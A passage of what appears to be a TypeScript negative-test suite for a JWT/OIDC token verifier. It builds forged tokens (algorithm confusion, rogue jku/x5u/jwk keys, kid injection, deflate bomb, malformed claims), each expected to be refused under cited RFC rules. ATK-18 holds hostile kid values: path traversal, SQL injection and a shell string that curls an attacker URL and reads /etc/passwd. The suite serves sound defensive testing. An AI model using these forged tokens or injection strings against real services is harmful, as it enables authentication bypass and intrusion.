      if (ctx.clientSecret === undefined || ctx.alg.startsWith('HS')) return Promise.resolve([]);
      const secret = Buffer.from(ctx.clientSecret);
      return Promise.resolve([
        { label: 'HS256, kid of the signing key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), secret, 'HS256') },
        { label: 'HS256, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256') },
        { label: 'HS512, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS512', kid: undefined }), ctx.claims(), secret, 'HS512') },
      ]);
    },
  },
  {
    id: 'ATK-11',
    title: 'an HMAC with a symmetric (oct) key the JWKS itself publishes',
    rule: 'RFC 8725 §3.1; RFC 7517 §4: a JWKS is public, so a symmetric key in it is known to everyone.',
    expect: 'refused',
    build(ctx) {
      const secret = Buffer.from('a-symmetric-key-published-in-the-jwks-for-all-to-see');
      const oct: JWK = { kty: 'oct', k: b64u(secret), kid: 'published-oct', alg: 'HS256', use: 'sig' };
      return Promise.resolve([
        { label: 'HS256 under the oct key\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: 'published-oct' }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, oct] } },
        { label: 'HS256, no kid, oct key without alg or use', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, { kty: 'oct', k: b64u(secret) }] } },
      ]);
    },
  },
  {
    id: 'ATK-12',
    title: 'a token signed by the issuer\'s own published key of an algorithm outside the allow-list',
    rule: 'RFC 8725 §3.1: only allow-listed algorithms; OIDC Core §3.1.3.7 step 7 (id_token_signed_response_alg); Back-Channel Logout §2.6.',
    expect: 'refused',
    async build(ctx) {
      const out: AttackToken[] = [];
      for (const key of ctx.publishedKeys.filter((k) => !ctx.allowedAlgs.includes(k.alg))) {
        out.push({ label: `${key.alg}, signed by the published key ${key.kid}`, token: await ctx.mint({}, {}, key) });
      }
      return out;
    },
  },
  {
    id: 'ATK-13',
    title: 'the issuer\'s RSA key used under another RSA algorithm (RS384, RS512, PS256, PS384, PS512)',
    rule: 'RFC 8725 §3.1, RFC 7517 §4.4: a key is used with its one algorithm; the allow-list still applies.',
    expect: 'refused',
    build(ctx) {
      const rsa = rsaKeyOf(ctx);
      const algs = ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512'].filter((alg) => alg !== rsa.alg);
      return Promise.resolve(algs.map((alg) => ({ label: `${alg}, really signed with ${alg} by ${rsa.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg, kid: rsa.kid }), ctx.claims(), rsa, alg) })));
    },
  },
  {
    id: 'ATK-14',
    title: 'an alg header that lies about the signature',
    rule: 'RFC 7515 §4.1.1: alg names the algorithm that produced the signature.',
    expect: 'refused',
    build(ctx) {
      const key = ctx.signingKey;
      const lies = ['RS256', 'RS384', 'PS256', 'ES256', 'EdDSA'].filter((alg) => alg !== key.alg);
      return Promise.resolve(lies.map((alg) => ({ label: `header alg ${alg} over a ${key.alg} signature`, token: ctx.sign(mergeMembers(ctx.header(), { alg }), ctx.claims(), key, key.alg) })));
    },
  },
  {
    id: 'ATK-15',
    title: 'a kid pointing to another of the issuer\'s keys',
    rule: 'RFC 7515 §4.1.4: kid selects the key; the signature must verify with that key.',
    expect: 'refused',
    build(ctx) {
      const out: AttackToken[] = [];
      for (const signer of ctx.publishedKeys) {
        for (const named of ctx.publishedKeys.filter((k) => k.kid !== signer.kid)) {
          out.push({ label: `signed by ${signer.kid} (${signer.alg}), kid ${named.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: signer.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
          out.push({ label: `signed by ${signer.kid}, alg ${named.alg} and kid of ${named.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: named.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
        }
      }
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-16',
    title: 'a token under a kid the issuer never published (at most one rate-limited key refetch)',
    rule: 'OIDC Core §10.1.1 / checklist CFG-05: refetch the JWKS on an unknown kid, rate-limited; the token still fails.',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      return Promise.resolve(['made-up-1', 'made-up-2', randomUUID()].map((kid) => ({ label: `attacker key, kid ${kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) })));
    },
  },
  {
    id: 'ATK-17',
    title: 'the attacker\'s key posing under the issuer\'s real kid',
    rule: 'RFC 7515 §5.2: the key comes from the issuer\'s JWKS, not from the token.',
    expect: 'refused',
    build(ctx) {
      const { rsa, ec } = attackerMaterial();
      const out: AttackToken[] = [];
      for (const real of ctx.publishedKeys) {
        const rogue = real.publicJwk.kty === 'EC' ? ec : rsa;
        out.push({ label: `attacker ${rogue.alg} key, kid ${real.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: real.alg, kid: real.kid }), ctx.claims(), rogue, real.alg) });
      }
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-18',
    title: 'an injection in kid (path traversal, SQL, shell, NUL, huge, non-string)',
    rule: 'RFC 8725 §3.10: kid is attacker-controlled input, only ever compared with the published key ids.',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const real = ctx.signingKey.kid;
      const withAttackerKey = (label: string, kid: unknown): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) });
      return Promise.resolve([
        { label: 'kid ../../../../../../dev/null, HS256 with an empty key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: '../../../../../../dev/null' }), ctx.claims(), new Uint8Array(0), 'HS256') },
        { label: 'kid SQL injection selecting a known secret, HS256 with that secret', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: 'x\' UNION SELECT \'attacker-secret\' -- ' }), ctx.claims(), Buffer.from('attacker-secret'), 'HS256') },
        withAttackerKey('kid $(curl attacker)|cat /etc/passwd', `$(curl ${ctx.attackerUrl})|cat /etc/passwd`),
        withAttackerKey('kid of the real key followed by NUL', `${real}\u0000attacker`),
        withAttackerKey('kid of the real key with a trailing space', `${real} `),
        withAttackerKey('kid of the real key upper-cased', real.toUpperCase() === real ? `${real}X` : real.toUpperCase()),
        withAttackerKey('kid of 3000 characters', 'k'.repeat(3000)),
        withAttackerKey('kid an array holding the real kid (loose equality)', [real]),
        withAttackerKey('kid an object', { $ne: null }),
        withAttackerKey('kid a number', 1),
        withAttackerKey('kid the empty string', ''),
      ]);
    },
  },
  {
    id: 'ATK-19',
    title: 'a self-signed token carrying its own key in a jwk header',
    rule: 'RFC 8725 §3.10 / RFC 9068 §4: keys come from the issuer\'s jwks_uri only; an embedded jwk proves nothing.',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, ...header }), ctx.claims(), rsa, rsa.alg) });
      return Promise.resolve([
        sign('jwk header, no kid', { kid: undefined, jwk: rsa.publicJwk }),
        sign('jwk header, kid of the real key', { kid: ctx.signingKey.kid, jwk: { ...rsa.publicJwk, kid: ctx.signingKey.kid } }),
        sign('jwk header, the attacker\'s kid', { kid: rsa.kid, jwk: rsa.publicJwk }),
      ]);
    },
  },
  {
    id: 'ATK-20',
    title: 'a jku header pointing to the attacker\'s key set',
    rule: 'RFC 8725 §3.10: never fetch keys from a URL in the token (SSRF, key injection).',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const jku = `${ctx.attackerUrl}/jwks`;
      return Promise.resolve([
        { label: 'jku, the attacker\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: rsa.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
        { label: 'jku, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
        { label: 'jku, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
      ]);
    },
  },
  {
    id: 'ATK-21',
    title: 'an x5u header pointing to the attacker\'s certificate',
    rule: 'RFC 8725 §3.10: never fetch keys from a URL in the token.',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const x5u = `${ctx.attackerUrl}/cert.pem`;
      return Promise.resolve([
        { label: 'x5u, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
        { label: 'x5u, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
      ]);
    },
  },
  {
    id: 'ATK-22',
    title: 'an x5c header carrying the attacker\'s self-signed certificate',
    rule: 'RFC 8725 §3.10: an embedded certificate chain is not a trust anchor; keys come from jwks_uri.',
    expect: 'refused',
    build(ctx) {
      const { rsa, certificateDer } = attackerMaterial();
      const x5c = [certificateDer.toString('base64')];
      const thumbprint = b64u(createHash('sha256').update(certificateDer).digest());
      return Promise.resolve([
        { label: 'x5c, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, x5c }), ctx.claims(), rsa, rsa.alg) },
        { label: 'x5c and x5t#S256, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5c, 'x5t#S256': thumbprint }), ctx.claims(), rsa, rsa.alg) },
      ]);
    },
  },
  {
    id: 'ATK-23',
    title: 'a validly signed token with a crit header the verifier cannot honour',
    rule: 'RFC 7515 §4.1.11: a JWS whose crit names an extension the recipient does not understand, or is malformed, is invalid.',
    expect: 'refused',
    build(ctx) {
      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), header), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
      return Promise.resolve([
        sign('crit ["urn:example:must-understand"] with that member', { crit: ['urn:example:must-understand'], 'urn:example:must-understand': true }),
        sign('crit naming a member that is absent', { crit: ['urn:example:absent'] }),
        sign('crit ["exp"] (a registered name)', { crit: ['exp'] }),
        sign('crit []', { crit: [] }),
        sign('crit a string', { crit: 'urn:example:must-understand' }),
      ]);
    },
  },
  {
    id: 'ATK-24',
    title: 'a validly signed token with an unencoded or detached payload (b64: false)',
    rule: 'RFC 7797 §7: JWTs never use b64: false; RFC 7519 §7.2: the payload is base64url-encoded JSON.',
    expect: 'refused',
    build(ctx) {
      const header = mergeMembers(ctx.header(), { b64: false, crit: ['b64'] });
      const claims = JSON.stringify(ctx.claims());
      const encodedHeader = segment(header);
      // Signing input of an RFC 7797 JWS: the header segment, a dot, the payload bytes as they are.
      const detachedInput = `${encodedHeader}.${claims}`;
      const looksNormalInput = `${encodedHeader}.${b64u(claims)}`;
      return Promise.resolve([
        { label: 'b64:false + crit, payload detached (empty middle segment)', token: `${encodedHeader}..${signature(ctx.signingKey.alg, ctx.signingKey, detachedInput)}` },
        { label: 'b64:false + crit, a base64url payload that verifies only if b64 is ignored', token: `${looksNormalInput}.${signature(ctx.signingKey.alg, ctx.signingKey, looksNormalInput)}` },
      ]);
    },
  },
  {
    id: 'ATK-25',
    title: 'a validly signed token with a compressed payload (zip: DEF)',
    rule: 'RFC 7516 §4.1.3: zip is for JWE only; RFC 8725 §3.6: avoid compression (and a bomb must not be inflated).',
    expect: 'refused',
    build(ctx) {
      const header = mergeMembers(ctx.header(), { zip: 'DEF' });
      const bomb = deflateRawSync(Buffer.from(jsonWith(ctx.claims(), `"padding":"${' '.repeat(1_000_000)}"`)));
      return Promise.resolve([
        { label: 'zip DEF, the valid claims deflated', token: ctx.sign(header, deflateRawSync(Buffer.from(JSON.stringify(ctx.claims()))), ctx.signingKey, ctx.signingKey.alg) },
        { label: `zip DEF, 1 MB of claims deflated to ${bomb.length} bytes`, token: ctx.sign(header, bomb, ctx.signingKey, ctx.signingKey.alg) },
      ]);
    },
  },
  confusion('ATK-26', 'id_token', 'an ID token'),
  confusion('ATK-27', 'access_token', 'a JWT access token'),
  confusion('ATK-28', 'logout_token', 'a logout token'),
  confusion('ATK-29', 'userinfo', 'a signed UserInfo response'),
  {
    id: 'ATK-30',
    title: 'valid claims under the typ of another kind of JWT',
    rule: 'RFC 8725 §3.11: explicit typing; RFC 9068 §4 (at+jwt); Back-Channel Logout §2.4 (logout+jwt or JWT); ID tokens and signed UserInfo: absent or JWT (RFC 7519 §5.1).',
    expect: 'refused',
    build(ctx) {
      const own = TOKEN_TYP[ctx.tokenType];
      const typs = ['secevent+jwt', 'dpop+jwt', 'JOSE', 'token-introspection+jwt', 'at+jwt', 'logout+jwt', 'application/at+jwt', 'application/logout+jwt']
        .filter((typ) => own === undefined || typ.replace(/^application\//, '') !== own);
      return Promise.resolve(typs.map((typ) => ({ label: `typ ${typ}`, token: ctx.sign(mergeMembers(ctx.header(), { typ }), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) })));
    },
  },
  {
    id: 'ATK-31',
    title: 'an encrypted JWT (JWE, five segments) in place of a signed one',
    rule: 'The issuer signs these tokens (JWS); a JWE anyone can make with a public key proves nothing about its origin (RFC 8725 §3.3/§3.4).',
    expect: 'refused',
    async build(ctx) {
      const rsa = rsaKeyOf(ctx);
      const { n, e } = rsa.publicJwk;
      const encryptionKey = await importJWK({ kty: 'RSA', n, e }, 'RSA-OAEP-256');
      const claims = new TextEncoder().encode(JSON.stringify(ctx.claims()));
      const out: AttackToken[] = [
        { label: 'RSA-OAEP-256 to the issuer\'s signing key, claims inside', token: await new CompactEncrypt(claims).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: rsa.kid }).encrypt(encryptionKey) },
        {
          label: 'RSA-OAEP-256, a valid signed token inside (cty JWT)',
          token: await new CompactEncrypt(new TextEncoder().encode(await ctx.mint())).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', cty: 'JWT', kid: rsa.kid }).encrypt(encryptionKey),
        },
      ];
      if (ctx.clientSecret !== undefined) {
        const key = createHash('sha256').update(ctx.clientSecret).digest();
        out.push({ label: 'dir A128CBC-HS256 with a key derived from the client secret', token: await new CompactEncrypt(claims).setProtectedHeader({ alg: 'dir', enc: 'A128CBC-HS256' }).encrypt(key) });
      }
      return out;
    },
  },
  {
    id: 'ATK-32',
    title: 'a nested JWT (cty: JWT) wrapping another token',
    rule: 'RFC 7519 §5.2, §7.2 step 8: a nested JWT must be verified layer by layer; these tokens are never nested, so the outer payload must be a JSON claims set.',
    expect: 'refused',
    async build(ctx) {
      const valid = await ctx.mint();
      const inner = unsigned(mergeMembers(ctx.header(), { alg: 'none' }), mergeMembers(ctx.claims(), { sub: 'admin' }));
      return [
        { label: 'outer alg none (cty JWT) around a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'none', cty: 'JWT' }), valid) },
        { label: 'outer validly signed (cty JWT) around an unsigned token with chosen claims', token: ctx.sign(mergeMembers(ctx.header(), { cty: 'JWT' }), inner, ctx.signingKey, ctx.signingKey.alg) },
        { label: 'outer HS256 with an empty key (cty JWT) around a valid token', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', cty: 'JWT' }), valid, new Uint8Array(0), 'HS256') },
      ];
    },
  },
  {
    id: 'ATK-33',
    title: 'a valid token re-spelled in non-canonical base64url (padding, + and /, spare bits)',
    rule: 'RFC 7515 §2 / RFC 7519 §3: base64url without padding; one token, one spelling (oidc-kit\'s canonical-encoding rule).',
    expect: 'refused',
    async build(ctx) {
      const out: AttackToken[] = [];
      // A token whose segments contain '-' or '_' and leave spare bits; re-mint until one does.
      let token = await ctx.mint();
      for (let i = 0; i < 50 && !/[-_]/.test(token); i++) token = await ctx.mint();
      const [h, p, s] = parts(token);
      const pad = (x: string): string => x + '='.repeat((4 - (x.length % 4)) % 4);
      for (const [name, index] of [['header', 0], ['payload', 1], ['signature', 2]] as const) {
        const all: [string, string, string] = [h, p, s];
        if (all[index].length % 4 !== 0) {
          all[index] = pad(all[index]);
          out.push({ label: `${name} padded with =`, token: all.join('.') });
        }
        const respelled = respell([h, p, s][index]!);
        if (respelled !== undefined) {
          const again: [string, string, string] = [h, p, s];
          again[index] = respelled;
          out.push({ label: `${name}'s spare bits set`, token: again.join('.') });
        }
      }
      if (/[-_]/.test(token)) out.push({ label: 'standard base64 alphabet (+ and /)', token: token.replace(/-/g, '+').replace(/_/g, '/') });
      out.push({ label: 'standard base64 with padding', token: [h, p, s].map((x) => pad(x.replace(/-/g, '+').replace(/_/g, '/'))).join('.') });
      out.push({ label: 'a character outside the alphabet (skipped by lenient decoders)', token: `${h}.${p.slice(0, 10)}*${p.slice(10)}.${s}` });
      return out;
    },
  },
  {
    id: 'ATK-34',
    title: 'a valid token with whitespace or line breaks inside',
    rule: 'RFC 7515 §7.1: the compact serialization has no whitespace; RFC 6750 §2.1 token syntax.',
    expect: 'refused',
    async build(ctx) {
      const [h, p, s] = parts(await ctx.mint());
      const mid = Math.floor(p.length / 2);
      return [' ', '\t', '\n', '\r\n'].map((ws) => ({ label: `${JSON.stringify(ws)} inside the payload`, token: `${h}.${p.slice(0, mid)}${ws}${p.slice(mid)}.${s}` }))
        .concat([
          { label: 'a line break after each dot', token: `${h}.\n${p}.\n${s}` },
          { label: 'a space after each dot', token: `${h}. ${p}. ${s}` },
          // A UserInfo answer is an HTTP body: a line break after it is formatting, not part of the
          // JWT (oidc-kit trims the body; the token inside must still be canonical).
          ...(ctx.tokenType === 'userinfo' ? [] : [{ label: 'a trailing line break', token: `${h}.${p}.${s}\n` }]),
        ]);
    },
  },
  {
    id: 'ATK-35',
    title: 'a valid token with extra or missing segments',
    rule: 'RFC 7515 §7.1: exactly three segments.',
    expect: 'refused',
    async build(ctx) {
      const token = await ctx.mint();
      const [h, p, s] = parts(token);
      return [
        { label: 'a trailing dot (four segments)', token: `${token}.` },
        { label: 'a leading dot', token: `.${token}` },
        { label: 'the signature twice', token: `${token}.${s}` },
        { label: 'an empty header segment', token: `.${p}.${s}` },
        { label: 'an empty payload segment', token: `${h}..${s}` },
        { label: 'two tokens joined by a dot', token: `${token}.${await ctx.mint()}` },
      ];
    },
  },
  {
    id: 'ATK-36',
    title: 'a validly signed header with duplicate members (the last one hostile)',
    rule: 'RFC 7515 §4: duplicate names are refused or the lexically last one is used — consistently by every parser on the way.',
    expect: 'refused',
    build(ctx) {
      const header = ctx.header();
      const sign = (label: string, extra: string): AttackToken => ({ label, token: ctx.sign(jsonWith(header, extra), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
      const out = [
        sign('two alg members, the last "none"', '"alg":"none"'),
        sign('two alg members, the last "HS256"', '"alg":"HS256"'),
        sign('two kid members, the last unknown', `"kid":"${randomUUID()}"`),
      ];
      // Only a type whose header carries a typ gets a second one: without it, this would be one typ
      // member, ATK-30's attack, which does not apply to the types that have no typ.
      if (header['typ'] !== undefined) out.push(sign('two typ members, the last secevent+jwt', '"typ":"secevent+jwt"'));
      out.push(sign('two crit members, the last naming an unknown extension', '"crit":["urn:example:x"],"urn:example:x":1'));
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-37',
    title: 'validly signed claims with duplicate members (the first valid, the last hostile)',
    rule: 'RFC 7519 §4: claim names are unique, or the lexically last is used; a verifier must never act on the first one while checking the last (or vice versa).',
    expect: 'refused',
    build(ctx) {
      const claims = ctx.claims();
      const sign = (label: string, extra: string): AttackToken => ({ label, token: ctx.sign(ctx.header(), jsonWith(claims, extra), ctx.signingKey, ctx.signingKey.alg) });
      const out = [
        sign('two iss, the last the attacker\'s', `"iss":${JSON.stringify(ctx.attackerUrl)}`),
        sign('two aud, the last another audience', '"aud":"https://attacker.example"'),
        sign('two exp, the last an hour ago', `"exp":${nowSeconds() - 3600}`),
        sign('two iat, the last in an hour', `"iat":${nowSeconds() + 3600}`),
      ];
      if (ctx.tokenType === 'logout_token') out.push(sign('two events, the last without the logout event', '"events":{}'));
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-38',
    title: 'an exp that is not a number',
    rule: 'RFC 7519 §2, §4.1.4: exp is a NumericDate, a JSON number.',
    expect: 'refused',
    build(ctx) {
      const later = nowSeconds() + 300;
      return Promise.resolve(rawClaimVariants(ctx, 'exp', [JSON.stringify(String(later)), JSON.stringify(new Date(later * 1000).toISOString()), 'null', 'true', `[${later}]`, `{"$date":${later}}`]));
    },
  },
  {
    id: 'ATK-39',
    title: 'an exp that is not a finite future time (Infinity, negative, zero)',
    rule: 'RFC 7519 §2: a NumericDate is a finite number of seconds; 1e400 parses to Infinity (a token that never expires).',
    expect: 'refused',
    build(ctx) {
      return Promise.resolve(rawClaimVariants(ctx, 'exp', ['1e400', '-1e400', '-1', '0', '-0']));
    },
  },
  {
    id: 'ATK-40',
    title: 'a token expired beyond the clock tolerance',
    rule: 'RFC 7519 §4.1.4 (with a small leeway); OIDC Core §3.1.3.7 step 9; RFC 9068 §4.',
    expect: 'refused',
    async build(ctx) {
      const now = nowSeconds();
      return [
        { label: `expired ${ctx.clockTolerance + 1} s ago (1 s beyond the tolerance)`, token: await ctx.mint({ iat: now - 600, exp: now - ctx.clockTolerance - 1 }) },
        { label: 'expired a day ago', token: await ctx.mint({ iat: now - 90_000, exp: now - 86_400 }) },
      ];
    },
  },
  {
    id: 'ATK-41',
    title: 'a token not valid before a time beyond the clock tolerance (nbf)',
    rule: 'RFC 7519 §4.1.5.',
    expect: 'refused',
    async build(ctx) {
      const now = nowSeconds();
      return [
        { label: `nbf ${ctx.clockTolerance + 30} s ahead`, token: await ctx.mint({ nbf: now + ctx.clockTolerance + 30, exp: now + ctx.clockTolerance + 600 }) },
        { label: 'nbf a day ahead', token: await ctx.mint({ nbf: now + 86_400, exp: now + 90_000 }) },
      ];
    },
  },
  {
    id: 'ATK-42',
    title: 'a token issued in the future beyond the clock tolerance (iat)',
    rule: 'OIDC Core §3.1.3.7 step 10; RFC 9068 §4; Back-Channel Logout §2.6 (iat checked as in ID tokens).',
    expect: 'refused',
    async build(ctx) {
      const now = nowSeconds();
      return [
        { label: `iat ${ctx.clockTolerance + 30} s ahead`, token: await ctx.mint({ iat: now + ctx.clockTolerance + 30, exp: now + ctx.clockTolerance + 600 }) },
        { label: 'iat a day ahead', token: await ctx.mint({ iat: now + 86_400, exp: now + 90_000 }) },
      ];
    },
  },
  {
    id: 'ATK-43',
    title: 'iat or nbf that is not a finite number',
    rule: 'RFC 7519 §4.1.5, §4.1.6: NumericDate values.',
    expect: 'refused',
    build(ctx) {
      const now = nowSeconds();
      return Promise.resolve([
        ...rawClaimVariants(ctx, 'iat', [JSON.stringify(String(now)), 'null', '1e400', `[${now}]`]),
        ...rawClaimVariants(ctx, 'nbf', [JSON.stringify(String(now)), 'true', '-1e400', `{"t":${now}}`]),
      ]);
    },
  },
  {
    id: 'ATK-44',
    title: 'an aud of the wrong type (object, number, null, nested or mixed array)',
    rule: 'RFC 7519 §4.1.3: aud is a StringOrURI or an array of them.',
    expect: 'refused',
    build(ctx) {
      const aud = JSON.stringify(asList(ctx.claims()['aud'])[0]);
      return Promise.resolve(rawClaimVariants(ctx, 'aud', [`{"aud":${aud}}`, `{"0":${aud},"length":1}`, '1', 'null', 'true', `[[${aud}]]`, `[${aud},42]`, `[${aud},null]`]));
    },
  },
  {
    id: 'ATK-45',
    title: 'an aud that lists an additional, untrusted audience',
    rule: 'OIDC Core §3.1.3.7 step 3: refuse an ID token whose aud "contains additional audiences not trusted by the Client"; Back-Channel Logout §2.6 validates aud the same way.',
    expect: 'refused',
    notApplicable: {
      userinfo: 'OIDC Core §5.3.2: a signed UserInfo aud "MUST be or include" the client id, so other audiences are allowed.',
      access_token: 'RFC 9068 §4 only requires aud to contain the API\'s identifier; access tokens for several APIs are allowed (docs/resource-server.md).',
    },
    build(ctx) {
      const own = asList(ctx.claims()['aud']);
      return Promise.resolve([
        { label: 'aud [ours, attacker]', token: ctx.sign(ctx.header(), mergeMembers(ctx.claims(), { aud: [...own, 'https://attacker.example'] }), ctx.signingKey, ctx.signingKey.alg) },
        { label: 'aud [attacker, ours]', token: ctx.sign(ctx.header(), mergeMembers(ctx.claims(), { aud: ['https://attacker.example', ...own] }), ctx.signingKey, ctx.signingKey.alg) },
      ]);
    },
  },
  {
    id: 'ATK-46',
    title: 'an aud that is missing or names someone else',
    rule: 'RFC 7519 §4.1.3; OIDC Core §3.1.3.7 step 3; RFC 9068 §4; Back-Channel Logout §2.6.',
    expect: 'refused',
    async build(ctx) {
      const own = asList(ctx.claims()['aud']);
      const first = String(own[0]);
      return [
        { label: 'no aud', token: await ctx.mint({ aud: undefined }) },
        { label: 'aud []', token: await ctx.mint({ aud: [] }) },
        { label: 'aud another party', token: await ctx.mint({ aud: 'https://attacker.example' }) },
        { label: 'aud the issuer', token: await ctx.mint({ aud: ctx.issuer }) },
        { label: 'aud ours upper-cased', token: await ctx.mint({ aud: first.toUpperCase() === first ? `${first}x` : first.toUpperCase() }) },
        { label: 'aud ours with a trailing slash', token: await ctx.mint({ aud: `${first}/` }) },
        { label: 'aud ours with a trailing space', token: await ctx.mint({ aud: `${first} ` }) },
      ];
    },
  },
  {
    id: 'ATK-47',
    title: 'an iss that only looks like the issuer',
    rule: 'OIDC Core §3.1.3.7 step 2, RFC 9068 §4, RFC 9207: iss equals the issuer exactly (no normalisation).',
    expect: 'refused',
    async build(ctx) {
      const iss = ctx.issuer;
      const homoglyph = iss.replace('h', '\u04bb'); // Cyrillic shha
      const fullwidth = iss.replace('1', '\uff11');
      const variants: Array<[string, unknown]> = [
        ['a trailing slash', `${iss}/`],
        ['upper-cased', iss.toUpperCase()],
        ['a Cyrillic look-alike letter', homoglyph],
        ['a full-width digit', fullwidth],
        ['a NUL and more appended', `${iss}\u0000.attacker.example`],
        ['a trailing space', `${iss} `],
        ['the attacker\'s issuer', ctx.attackerUrl],
        ['an array holding the issuer', [iss]],
        ['missing', undefined],
      ];
      return Promise.all(variants.map(async ([label, value]) => ({ label: `iss ${label}`, token: await ctx.mint({ iss: value }) })));
    },
  },
  {
    id: 'ATK-48',
    title: 'a sub that is not a string',
    rule: 'RFC 7519 §4.1.2 (StringOrURI); OIDC Core §2 (sub is a string).',
    expect: 'refused',
    build(ctx) {
      return Promise.resolve(rawClaimVariants(ctx, 'sub', ['42', 'null', 'true', `[${JSON.stringify(ctx.subject.sub)}]`, `{"id":${JSON.stringify(ctx.subject.sub)}}`]));
    },
  },
  {
    id: 'ATK-49',
    title: 'a scope that is not a space-separated string',
    rule: 'RFC 9068 §2.2.3 / RFC 8693 §4.2: scope is a space-delimited string.',
    expect: 'refused',
    notApplicable: {
      id_token: 'ID tokens grant no scopes; a scope claim in one is not acted on.',
      id_token_refresh: 'ID tokens grant no scopes; a scope claim in one is not acted on.',
      logout_token: 'Logout tokens grant no scopes; a scope claim in one is ignored.',
      userinfo: 'UserInfo responses grant no scopes; a scope claim in one is just a claim.',
    },
    build(ctx) {
      return Promise.resolve(rawClaimVariants(ctx, 'scope', ['["read","admin"]', '{"read":true,"admin":true}', '42', 'null']));
    },
  },
  {
    id: 'ATK-50',
    title: 'a jti, sid or client_id that is not a string',
    rule: 'RFC 7519 §4.1.7 (jti a string); OIDC Front/Back-Channel Logout (sid a string); RFC 9068 §2.2 (client_id a string).',
    expect: 'refused',
    notApplicable: {
      userinfo: 'A UserInfo response carries none of jti, sid or client_id.',
    },
    build(ctx) {
      const claims = ctx.claims();
      const out: AttackToken[] = [];
      for (const claim of ['jti', 'sid', 'client_id']) {
        if (claims[claim] === undefined) continue;
        out.push(...rawClaimVariants(ctx, claim, ['42', `[${JSON.stringify(claims[claim])}]`, `{"v":${JSON.stringify(claims[claim])}}`, 'true']));
      }
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-51',
    title: 'a token missing a required claim',
    rule: 'The type\'s required claims: OIDC Core §2 (ID token), Back-Channel Logout §2.4, RFC 9068 §2.2, OIDC Core §5.3.2.',
    expect: 'refused',
    build(ctx) {
      return Promise.all(ctx.requiredClaims.map(async (required) => {
        const names = typeof required === 'string' ? [required] : [...required];
        return { label: `without ${names.join(' and ')}`, token: await ctx.mint(Object.fromEntries(names.map((n) => [n, undefined]))) };
      }));
    },
  },
  {
    id: 'ATK-52',
    title: 'a validly signed payload that is not a JSON object',
    rule: 'RFC 7519 §7.2 step 10: the claims set is a JSON object.',
    expect: 'refused',
    build(ctx) {
      const sign = (label: string, payload: string): AttackToken => ({ label, token: ctx.sign(ctx.header(), payload, ctx.signingKey, ctx.signingKey.alg) });
      return Promise.resolve([
        sign('an array of the claims', `[${JSON.stringify(ctx.claims())}]`),
        sign('a JSON string', JSON.stringify(JSON.stringify(ctx.claims()))),
        sign('a number', '42'),
        sign('null', 'null'),
        sign('truncated JSON', JSON.stringify(ctx.claims()).slice(0, -1)),
        sign('empty', ''),
        sign('trailing garbage after the object', `${JSON.stringify(ctx.claims())}xyz`),
      ]);
    },
  },
  {
    id: 'ATK-53',
    title: 'a validly signed header that is not a JSON object with an algorithm',
    rule: 'RFC 7515 §4.1.1 (alg required, a string), §5.2 step 3 (the header is a JSON object).',
    expect: 'refused',
    build(ctx) {
      const header = ctx.header();
